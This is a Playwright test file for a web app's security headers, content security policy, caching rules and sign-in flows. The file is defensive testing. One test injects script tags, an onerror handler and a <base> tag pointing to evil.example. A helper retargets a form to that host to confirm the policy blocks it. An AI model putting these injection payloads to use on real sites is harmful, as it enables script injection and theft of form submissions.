// Headers for caches and browsers, and the app under its own content security policy.

import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage } from 'node:http';
import type { Duplex } from 'node:stream';
import type { BrowserContext, Page } from '@playwright/test';
import { orders, paths, products, sessionCookie } from './pages.ts';
import { expect, test } from './support/fixtures.ts';
import { freePort } from './support/process.mjs';
import { Stack } from './support/stack.ts';

const everywhere = [...paths, '/auth-error?code=access_denied', '/no-such-page'];

/**
 * Collects the violations that the browser reports in pages of the app, but not in the provider's.
 */
async function violations(context: BrowserContext, appUrl: string): Promise<string[]> {
  const seen: string[] = [];
  await context.exposeBinding('reportViolation', ({ frame }, violation: string) => {
    if (frame.url().startsWith(appUrl)) {
      seen.push(violation);
    }
  });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, documentURI }) => {
      const report = (window as unknown as { reportViolation(violation: string): void }).reportViolation;
      report(`${effectiveDirective} ${blockedURI} in ${documentURI}`);
    });
  });
  return seen;
}

const nonceIn = (policy: string): string =>
  /script-src 'self' 'wasm-unsafe-eval' 'nonce-([\w-]{22,})';/.exec(policy)?.[1] ?? '';

test.beforeEach(({ watch }) => {
  // The browser reports pages with an error status.
  watch.allow(/Failed to load resource.*\/(no-such-page|auth-error)/);
});

for (const signedIn of [false, true]) {
  test(`${signedIn ? 'signed in' : 'signed out'}: every page has a policy with its own nonce`, async ({
    app,
    page,
  }) => {
    if (signedIn) {
      await app.open('/');
      await app.signIn('ada');
    }
    const nonces = new Set<string>();
    for (const path of everywhere) {
      const response = await page.goto(new URL(path, app.url).href);
      const headers = response!.headers();
      const policy = headers['content-security-policy'] ?? '';
      expect(policy, path).not.toContain('unsafe-inline');
      expect(policy, path).toMatch(/frame-ancestors 'none'$/);
      expect(policy, path).toMatch(/form-action 'self' [^;]*http:\/\/127\.0\.0\.1:\d+/);
      expect(headers['x-content-type-options'], path).toBe('nosniff');
      expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
      expect(headers['strict-transport-security'], path).toBeUndefined();
      expect(nonceIn(policy), path).not.toBe('');
      nonces.add(nonceIn(policy));
      const withoutNonce = await page.evaluate(
        () =>
          [...document.querySelectorAll<HTMLElement>('script:not([src]), style')].filter(({ nonce }) => !nonce).length,
      );
      expect(withoutNonce, path).toBe(0);
    }
    expect(nonces.size).toBe(everywhere.length);
  });
}

test('using every page violates no policy, and only files can be cached', async ({ app, context }) => {
  const broken = await violations(context, app.url);
  const cacheable: string[] = [];
  const files: string[] = [];
  context.on('response', (response) => {
    const url = new URL(response.url());
    if (url.origin !== app.url) {
      return;
    }
    const { 'cache-control': caching = '', vary = '' } = response.headers();
    const isFile = /^\/(pkg\/|favicon|logto-session\.js|panes\.js)/.test(url.pathname);
    if (isFile) {
      files.push(`${url.pathname}: ${vary}`);
    } else if (!/private, no-store/.test(caching) || !/cookie/i.test(vary)) {
      cacheable.push(`${response.request().method()} ${url.pathname} ${response.status()}: ${caching}, ${vary}`);
    }
  });

  for (const path of everywhere) {
    await app.open(path);
  }
  await app.open('/');
  await app.signInButton.click();
  await app.provider.cancel.click();
  await app.wayBack.click();
  await app.signIn('ada');
  for (const path of everywhere) {
    await app.open(path);
  }
  await app.open('/resources');
  for (const indicator of [products, orders]) {
    await app.resource(indicator).button.click();
    await expect(app.resource(indicator).byAction).toBeVisible();
  }
  await expect(app.api.getByRole('cell', { name: 'Teapot' })).toBeVisible();
  await app.newProduct.fill('Kettle');
  await app.addProduct.click();
  await expect(app.api.getByRole('cell', { name: 'Kettle' }).first()).toBeVisible();
  await app.open('/organizations');
  await app.organization('Acme Inc.').button.click();
  await expect(app.organization('Acme Inc.').byAction).toBeVisible();
  await app.signOut();

  expect(broken).toEqual([]);
  expect(cacheable).toEqual([]);
  expect(files.length).toBeGreaterThan(2);
  expect(files.filter((file) => /cookie/i.test(file))).toEqual([]);
});

test('a file with a hash in its name is cached forever, also with a session; a missing one is not', async ({
  app,
  page,
}) => {
  await app.open('/');
  await app.signIn('ada');
  const stylesheet = await page
    .locator('link[rel=stylesheet]')
    .first()
    .evaluate(({ href }: HTMLLinkElement) => href);
  expect(new URL(stylesheet).pathname).toMatch(/^\/pkg\/[^/]+\.[\w-]{10,}\.css$/);
  const file = await page.request.get(stylesheet);
  expect(file.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(file.headers().vary ?? '').not.toMatch(/cookie/i);
  const missing = await page.request.get(new URL('/pkg/nothing.css', app.url).href);
  expect(missing.status()).toBe(404);
  expect(missing.headers()['cache-control']).toBe('private, no-store');
});

test('an injected script does not run, nor does an injected handler or style', async ({
  app,
  page,
  context,
  watch,
}) => {
  watch.allow(/Content Security Policy/);
  const broken = await violations(context, app.url);
  await page.route(app.url, async (route) => {
    const response = await route.fetch();
    const injected = `<script>document.title = 'run'</script><img src="/none" onerror="document.title = 'run'">
      <style>body { opacity: 0.5 }</style><p id="injected" style="opacity: 0.5"></p>
      <script src="https://evil.example/script.js"></script><base href="https://evil.example/">`;
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${injected}`) });
  });
  // Tried and blocked. A browser's preload scanner reads the page before it knows that its `<base>`
  // is not allowed, and discards what it fetched.
  watch.allow(/Failed to load resource.*(\/none|evil\.example)|request to another host: evil\.example/);
  await app.open('/');
  await expect(page.locator('#injected')).toHaveCount(1);
  const directives = () => [...new Set(broken.map((violation) => violation.split(' ')[0]))].sort();
  await expect
    .poll(directives)
    .toEqual(['base-uri', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']);
  expect(broken.join('\n')).toContain('https://evil.example/script.js');
  expect(await page.title()).not.toBe('run');
  expect(await page.evaluate(() => document.baseURI)).toBe(`${app.url}/`);
  for (const element of ['body', '#injected']) {
    await expect(page.locator(element)).toHaveCSS('opacity', '1');
  }
});

/** Submits a form as an injected script would. */
async function leadFormAstray(page: Page): Promise<void> {
  await page.evaluate(() => {
    const form = document.querySelector('form')!;
    form.action = 'https://evil.example/';
    form.requestSubmit();
  });
}

test('a form cannot submit to another site', async ({ app, page, context, watch }) => {
  watch.allow(/Content Security Policy/);
  const broken = await violations(context, app.url);
  await app.open('/');
  await leadFormAstray(page);
  await expect.poll(() => broken[0]).toContain('form-action https://evil.example/');
  expect(page.url()).toBe(`${app.url}/`);
});

test('the confirmation pages lead to the provider and back, and nowhere else', async ({
  app,
  page,
  context,
  watch,
}) => {
  watch.allow(/Content Security Policy/);
  const broken = await violations(context, app.url);
  // The second time the provider knows the user, and only redirects.
  for (const known of [false, true]) {
    await context.clearCookies({ name: sessionCookie });
    await app.open('/sign-in?return_to=/profile');
    await app.confirm('Sign in');
    if (!known) {
      await app.provider.signIn('ada');
    }
    await expect(app.accountButton).toBeVisible();
    expect(app.path).toBe('/profile');
  }
  await app.open('/sign-out');
  await app.confirm('Sign out');
  await expect(app.signInButton).toBeVisible();
  expect(broken).toEqual([]);

  await app.open('/sign-in');
  await leadFormAstray(page);
  await expect.poll(() => broken[0]).toContain('form-action https://evil.example/');
  expect(page.url()).toBe(`${app.url}/sign-in`);
});

test('a page connects to cargo leptos watch and reloads', async ({ browser }) => {
  const port = await freePort();
  const watched = await Stack.start({ LEPTOS_WATCH: 'true', LEPTOS_RELOAD_PORT: String(port) });
  const { server, reload } = await reloadServer(port);
  const page = await browser.newPage();
  try {
    const broken = await violations(page.context(), watched.appUrl);
    await page.goto(watched.appUrl);
    const reloaded = page.waitForEvent('load');
    await reload();
    await reloaded;
    expect(broken).toEqual([]);
  } finally {
    await page.close();
    server.closeAllConnections();
    server.close();
    await watched.stop();
  }
});

/**
 * A WebSocket server like that of cargo-leptos. `reload` waits for the first page that connects and
 * makes it reload.
 */
async function reloadServer(port: number) {
  const message = Buffer.from(JSON.stringify({ all: true }));
  const frame = Buffer.concat([Buffer.from([0x81, message.length]), message]);
  const server = createServer();
  const connected = new Promise<Duplex>((resolve) => {
    server.on('upgrade', ({ headers }: IncomingMessage, socket) => {
      const accept = createHash('sha1')
        .update(`${headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest('base64');
      socket.write(
        'HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n' +
          `sec-websocket-accept: ${accept}\r\n\r\n`,
      );
      resolve(socket);
    });
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return { server, reload: async () => (await connected).write(frame) };
}
